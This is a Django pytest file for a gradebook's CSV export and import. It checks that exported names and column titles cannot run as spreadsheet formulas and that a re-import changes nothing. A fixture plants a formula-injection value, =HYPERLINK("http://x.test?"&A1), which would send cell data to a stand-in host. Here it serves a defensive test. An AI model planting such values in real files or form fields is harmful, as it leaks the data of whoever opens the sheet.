"""A sheet leaves as a file that is safe to open, and comes back as what it was."""

from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from gradebook.models import Column, User
from gradebook.services.terms import lock_term
from tests import factories
from tests.gradebook.marks import count_events, save
from tests.people import World

pytestmark = pytest.mark.django_db

TITLES = ("Essay", "=1+1", "Name", "@ home")


@pytest.fixture
def columns(world: World) -> list[Column]:
    return [factories.column(world.sheet, title=title, max_points=2000) for title in TITLES]


@pytest.fixture
def odd(world: World, columns: list[Column], teacher: User) -> User:
    """A student whose names are formulas, with a mark of each kind; the second has none."""
    person = factories.student(
        world.school, username="+odd", first_name='=HYPERLINK("http://x.test?"&A1)', last_name="-Smith"
    )
    other = factories.student(world.school, username="plain", first_name="Ann", last_name="Zoe")
    for each in (person, other):
        factories.enrolment(each, world.school_class)
    for column, text in zip(columns, ("1234.5", "0", "absent", ""), strict=True):
        if text:
            save(column, person, text, by=teacher)
    return person


@pytest.fixture
def export(client: Client, world: World, teacher: User) -> Callable[[str], bytes]:
    client.force_login(teacher)
    url = reverse("gradebook:export_marks", args=[world.sheet.pk])
    return lambda language: client.get(url, headers={"accept-language": language}).content


def test_texts_are_no_formulas_and_numbers_stay_numbers(odd: User, export: Callable[[str], bytes]) -> None:
    """O22."""
    text = export("en").decode("utf-8-sig")
    assert text.splitlines() == [
        "username,student,Essay,'=1+1,Name,'@ home",
        '\'+odd,"\'=HYPERLINK(""http://x.test?""&A1) -Smith",1234.5,0,absent,',
        "plain,Ann Zoe,,,,",
    ]
    assert export("de").decode("utf-8-sig").splitlines()[1].endswith(";1234,5;0;absent;")


@pytest.mark.parametrize("language", ["en", "de"])
def test_export_imported_unchanged_changes_nothing(
    language: str,
    odd: User,
    client: Client,
    world: World,
    columns: list[Column],
    export: Callable[[str], bytes],
) -> None:
    """O23, in both decimals, past every odd name and title."""
    before = count_events(columns)
    page = client.post(
        reverse("gradebook:import_marks", args=[world.sheet.pk]),
        {"file": SimpleUploadedFile("marks.csv", export(language)), "is_clearing": "on"},
        headers={"accept-language": language},
    )
    assert (page.status_code, page.context["lines"], page.context["plan"].unchanged) == (200, [], 8)
    assert page.context["plan"].ignored == ["student"]
    assert count_events(columns) == before


def test_sheet_is_given_to_those_who_may_read_it_also_when_it_is_locked(
    odd: User, client: Client, world: World, teacher: User, other_teacher: User, student: User
) -> None:
    url = reverse("gradebook:export_marks", args=[world.sheet.pk])
    office = factories.admin(school=world.school)
    lock_term(period_id=world.period.pk, by=office)
    seen = {}
    for person in (teacher, office, other_teacher, student):
        client.force_login(person)
        seen[person.username] = client.get(url).status_code
    assert list(seen.values()) == [200, 200, 404, 404]
